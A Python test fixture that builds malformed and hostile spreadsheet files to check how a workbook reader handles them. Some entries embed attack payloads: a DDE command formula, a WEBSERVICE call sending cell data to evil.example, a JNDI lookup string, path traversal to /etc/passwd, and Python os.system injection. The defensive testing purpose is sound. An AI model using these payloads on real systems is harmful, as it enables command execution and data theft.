"""Well-formed sheets that say what no sheet should: places, counts, values, formulas, tables, settings, rules."""

# ruff: noqa: E501 (XML reads best on one line)

from __future__ import annotations

from collections.abc import Callable, Mapping

from books import parts, type_rows, with_part, write
from hostile_base import (
    BOOK,
    CUSTOMERS,
    SHEET_LINKS,
    TABLE,
    TEXTS,
    changed,
    good,
    linked_part,
    raw_rows,
    setting,
    sheet_end,
)

LAST = 1_048_576


def cell(inside: str, reference: str = "B2", row: int | str = 2) -> Callable[[], bytes]:
    """One row with one cell for all the customers."""
    return lambda: raw_rows(f'<row r="{row}"><c r="{reference}"{inside}</c></row>')


def formula(text: str, more: str = "") -> Callable[[], bytes]:
    """A customer with a formula in the name."""
    return lambda: raw_rows(
        f'<row r="2"><c r="A2" t="inlineStr"><is><t>C1</t></is></c><c r="C2" t="str"><f{more}>{text}</f><v>x</v></c></row>'
    )


def formatted() -> bytes:
    body = "".join(f'<row r="{r}"><c r="A{r}" s="31"/></row>' for r in range(7, LAST + 1))
    return changed(CUSTOMERS, ("</sheetData>", f"{body}</sheetData>"))


def repeated(opening: str, one: str, count: int, closing: str) -> Callable[[], bytes]:
    return lambda: sheet_end(opening + "".join(one.format(i=i, j=i + 2) for i in range(count)) + closing)


def table(*pairs: tuple[str, str]) -> Callable[[], bytes]:
    return lambda: changed(TABLE, *pairs)


def typed(table_name: str, **row: object) -> Callable[[], bytes]:
    return lambda: type_rows(good(), table_name, [row])  # type: ignore[list-item]


def ref() -> str:
    return parts(good())[TABLE].decode().partition('ref="')[2].partition('"')[0]


def with_ref(text: str) -> Callable[[], bytes]:
    return lambda: with_part(good(), TABLE, lambda c: c.replace(f'ref="{ref()}"'.encode(), f'ref="{text}"'.encode()))


def rule(text: str) -> Callable[[], bytes]:
    from books import column_of, header, table_of

    def make() -> bytes:
        rules = table_of(good(), "Rules")
        return write(
            good(), [(rules.sheet, rules.ref.first_row + 1, column_of(rules, header("Rules", "condition")), text)]
        )

    return make


FILES: Mapping[str, Callable[[], bytes]] = {
    "cell at the end of the sheet": lambda: changed(CUSTOMERS, ("</sheetData>", '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>')),
    "cell beyond the sheet": cell("><v>1</v>", "XFE2"),
    "row beyond the sheet": cell("><v>1</v>", "A1048577", 1048577),
    "row 0": cell("><v>1</v>", "A0", 0),
    "row below zero": cell("><v>1</v>", "A2", "-2"),
    "row of 30 digits": cell("><v>1</v>", "A9", "9" * 30),
    "row in arabic digits": cell("><v>1</v>", "A2", "٢"),
    "cell of another row": cell("><v>1</v>", "A9"),
    "cell without letters": cell("><v>1</v>", "22"),
    "cell with a sheet": cell("><v>1</v>", "Home!A2"),
    "cells out of order": lambda: raw_rows('<row r="2"><c r="C2"><v>1</v></c><c r="A2"><v>1</v></c></row>'),
    "cell twice": lambda: raw_rows('<row r="2"><c r="A2"><v>1</v></c><c r="A2"><v>2</v></c></row>'),
    "rows out of order": lambda: raw_rows('<row r="3"><c r="A3"><v>1</v></c></row><row r="2"><c r="A2"><v>1</v></c></row>'),
    "row twice": lambda: raw_rows('<row r="2"><c r="A2"><v>1</v></c></row><row r="2"><c r="A2"><v>1</v></c></row>'),
    "lying dimension": lambda: with_part(good(), CUSTOMERS, lambda c: c.replace(b'<dimension ref="', b'<dimension ref="A1:XFD1048576" x="')),
    "dimension that is none": lambda: with_part(good(), CUSTOMERS, lambda c: c.replace(b'<dimension ref="', b'<dimension ref="!!" x="')),
    "four billion texts": lambda: with_part(good(), TEXTS, lambda c: c.replace(b"uniqueCount=", b'uniqueCount="4294967295" x=').replace(b" count=", b' count="4294967295" y=')),
    "text beyond the texts": cell(' t="s"><v>4294967295</v>'),
    "text below zero": cell(' t="s"><v>-1</v>'),
    "text that is half": cell(' t="s"><v>1.5</v>'),
    "style of four billion": cell(' s="4294967295"><v>1</v>'),
    "style that is none": cell(' s="x"><v>1</v>'),
    "type that is none": cell(' t="zz"><v>1</v>'),
    "truth that is none": cell(' t="b"><v>maybe</v>'),
    "number beyond numbers": cell("><v>1e999</v>"),
    "number that is none": cell("><v>nan</v>"),
    "infinity": cell("><v>-inf</v>"),
    "number in words": cell("><v>twelve</v>"),
    "number of a million digits": cell(f"><v>{'9' * 1_000_000}</v>"),
    "number with lines in it": cell("><v>1_000</v>"),
    "date beyond dates": typed("Customers", last_name="Far", next_followup=1e300),
    "error that is none": cell(' t="e"><v>#EVIL!</v>'),
    "text of 100,000 letters": cell(f' t="inlineStr"><is><t>{"x" * 100_000}</t></is>', "C2"),
    "texts of control characters": typed("Customers", last_name="\x1b[2J\x1b]0;owned\x07", email="a\x9b31m@b.example"),
    "writing turned around": typed("Customers", last_name="\u202egnp.exe", email="no\u2066 mail"),
    "template in a text": typed("Customers", last_name="{value} {0.__class__} %s ${jndi:ldap://evil}", email="{message}"),
    "formatted rows to the end": formatted,
    "50,000 merges": repeated("<mergeCells>", '<mergeCell ref="BZ{j}:CA{j}"/>', 50_000, "</mergeCells>"),
    "merge over everything": lambda: sheet_end('<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'),
    "merge that is none": lambda: sheet_end('<mergeCells><mergeCell ref="oops"/></mergeCells>'),
    "20,000 links": repeated("<hyperlinks>", '<hyperlink ref="A{j}" location="B{j}"/>', 20_000, "</hyperlinks>"),
    "100,000 formats": repeated("", '<conditionalFormatting sqref="A{j}"><cfRule type="expression" priority="1"><formula>1</formula></cfRule></conditionalFormatting>', 100_000, ""),
    "array over the table": lambda: raw_rows('<row r="2"><c r="A2"><f t="array" ref="A2:BV900000">1</f><v>1</v></c></row>'),
    "array over nothing": lambda: raw_rows('<row r="2"><c r="A2"><f t="array" ref="!">1</f><v>1</v></c></row>'),
    "shared formula without a master": lambda: raw_rows('<row r="2"><c r="A2"><f t="shared" si="9"/><v>1</v></c></row>'),
    "shared formula to the end": lambda: raw_rows('<row r="2"><c r="A2"><f t="shared" si="0" ref="A2:A1048576">A1+1</f><v>1</v></c></row>'),
    "formula of its own": formula("C2"),
    "formula of dde": formula("cmd|'/c calc'!A0"),
    "formula of the web": formula("WEBSERVICE(&quot;http://evil.example/?&quot;&amp;A2)"),
    "formula of another book": formula("'\\\\evil.example\\[x.xlsx]Sheet1'!A1"),
    "formula of a program": formula("HYPERLINK(&quot;file:///c:/windows/system32/calc.exe&quot;,&quot;x&quot;)"),
    "formula of a mebibyte": formula("1+" * 500_000 + "1"),
    "formula of deep brackets": formula("(" * 50_000 + "1" + ")" * 50_000),
    "table to the end of the sheet": with_ref("A1:BW1048576"),
    "table over the whole sheet": with_ref("A1:XFD1048576"),
    "table backwards": with_ref("BW6:A1"),
    "table nowhere": with_ref("oops"),
    "table without a place": with_ref(""),
    "table beyond the sheet": with_ref("A1:ZZZ99999999"),
    "table beside its cells": with_ref("HA1:JV6"),
    "table far below its cells": with_ref("A900001:BV900006"),
    "table without columns": lambda: with_part(good(), TABLE, lambda c: c[: c.index(b"<tableColumns")] + c[c.index(b"</tableColumns>") + 15 :]),
    "table of too few columns": lambda: with_part(good(), TABLE, lambda c: c.replace(b'<tableColumn id="3"', b'<x id="3"', 1).replace(b'name="Last name"/>', b'name="Last name"/>', 1)),
    "table without a header": table(("<table ", '<table headerRowCount="0" ')),
    "table of header rows": table(("<table ", '<table headerRowCount="999999999999" ')),
    "table of totals rows": table(("<table ", '<table totalsRowCount="999999" ')),
    "two tables of one name": lambda: with_part(good(), "xl/tables/table3.xml", lambda c: c.replace(b"Interactions", b"Customers")),
    "table inside another": lambda: linked_part(TABLE, "Inner", "A2:B3"),
    "a sheet twice": lambda: changed(BOOK, ('name="Interactions"', 'name="Customers"')),
    "a sheet without a name": lambda: changed(BOOK, ('name="Interactions"', 'name=""')),
    "a sheet of a long name": lambda: changed(BOOK, ('name="Guide"', f'name="{"g" * 1_000_000}"')),
    "a sheet without a part": lambda: changed(BOOK, ('r:id="rId4"', 'r:id="rId4000"')),
    "no sheets": lambda: with_part(good(), BOOK, lambda c: c[: c.index(b"<sheets>")] + b"<sheets/>" + c[c.index(b"</sheets>") + 9 :]),
    "50,000 names": lambda: changed(BOOK, ("</definedNames>", "".join(f'<definedName name="n{i}">Home!$A$1</definedName>' for i in range(50_000)) + "</definedNames>")),
    "a name in a circle": lambda: changed(BOOK, ("</definedNames>", '<definedName name="a_a">b_b</definedName><definedName name="b_b">a_a</definedName></definedNames>')),
    "a block over the whole sheet": lambda: with_part(good(), BOOK, lambda c: c.replace(b"<definedName name=\"home_first\">", b"<definedName name=\"home_first\">'Home'!$A$1:$XFD$1048576</definedName><definedName name=\"x\">")),
    "a day on a cell that is none": lambda: with_part(good(), BOOK, lambda c: c.replace(b"'State'!$B$3", b"'State'!$XFD$1048576")),
    "dates of 1904": lambda: changed(BOOK, ("<workbookPr/>", '<workbookPr date1904="1"/>')),
    "schema of the far future": lambda: setting("schema", "1e300"),
    "schema in words": lambda: setting("schema", "__import__('os')"),
    "id that leads elsewhere": lambda: setting("workbook_id", "../../../../tmp/evil"),
    "locale that leads elsewhere": lambda: setting("locale", "../../../../etc/passwd"),
    "country that is code": lambda: setting("holidays", "__import__('os').system('touch evil')"),
    "day of another millennium": lambda: setting("as_of", "9999-12-31"),
    "zone that leads elsewhere": lambda: setting("time_zone", "../../../etc/passwd"),
    "rule of deep brackets": rule("(" * 15_000 + "true" + ")" * 15_000),
    "rule that is code": rule("__import__('os').system('touch evil') = 0"),
    "rule of a large power": rule("spend(12m) > 9999999999999999999999999999999999999e99999"),
    "rule that repeats": rule("not " * 8_000 + "email is blank"),
    "id that is a pattern": typed("Customers", customer_id="C*", last_name="Star"),
    "id of 30,000 letters": typed("Customers", customer_id="C" * 30_000, last_name="Long"),
    "links of the customers gone": lambda: with_part(good(), SHEET_LINKS, lambda c: c.replace(b"<Relationship ", b"<Gone ")),
}  # fmt: skip
